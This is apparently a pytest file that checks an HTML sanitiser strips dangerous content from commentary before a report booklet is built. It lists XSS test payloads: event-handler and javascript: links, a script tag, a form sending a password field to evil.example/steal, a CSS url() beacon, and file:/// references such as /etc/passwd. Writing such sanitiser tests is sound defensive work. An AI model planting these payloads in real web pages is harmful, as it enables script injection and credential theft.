"""Commentary HTML goes through an allow-list before it reaches the booklet's HTML or PDF."""

import pytest
from booklet_support import fake_booklet_yml, fake_executed_notebook

from onapage.booklet import build_booklet
from onapage.sanitise import sanitise_html

ATTACKS = {
    "event handler": ('<img src="x.png" onerror="alert(1)" alt="chart">', "onerror"),
    "svg onload": ('<svg onload="alert(1)"><circle r="4"/></svg>', "onload"),
    "javascript link": ('<a href="javascript:alert(1)">the plan</a>', "javascript:"),
    "form": ('<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>', "<form"),
    "file image": ('<img src="file:///C:/Users/analyst/secret.png" alt="s">', "file:"),
    "external link": ('<a href="https://evil.example/">more</a>', "evil.example"),
    "script": ("<script>alert(1)</script>", "alert(1)"),
    "style url": ('<p style="background:url(https://evil.example/x)">t</p>', "evil.example"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_could_run_or_leave_the_page_is_removed(name):
    html, trace = ATTACKS[name]
    assert trace not in sanitise_html(html).lower()


def test_the_words_and_formatting_of_commentary_stay():
    html = ('<h3 id="why">Why?</h3><p>Referrals <strong>rose</strong> &amp; fell; <em>see</em> '
            '<a href="#section-front_door">front door</a>.</p><ul><li>one</li></ul>'
            '<table><tbody><tr><th scope="col">A</th></tr><tr><td>1</td></tr></tbody></table>'
            '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a chart">')
    assert sanitise_html(html) == html
    assert sanitise_html('<a href="javascript:alert(1)">the plan</a>') == "<a>the plan</a>"  # the words stay


def test_the_booklet_html_and_pdf_keep_none_of_it(fake_month, tmp_path):
    settings, period, sections, booklet = fake_month
    nbdir = settings.output_dir / "2026-10" / "notebooks"
    words = "\n\n".join(html for html, _ in ATTACKS.values())
    fake_executed_notebook(nbdir / "child_protection.ipynb", "child_protection", title="Child protection",
                           commentary=f"## Commentary\n\nReferrals rose.\n\n{words}\n\n"
                                      "[a markdown link](javascript:alert(2)) and ![img](file:///etc/passwd)")
    fake_booklet_yml(booklet, sections)
    html = build_booklet(settings, period, booklet_file=booklet, renderer="builtin", pdf=False).html.read_text()
    section = html[html.index('id="section-child_protection"'):]
    assert "Referrals rose." in section and "a markdown link" in section
    for trace in ("onerror", "onload", "javascript:", "<form", "file:", "evil.example", "alert(1)"):
        assert trace not in section.lower(), trace
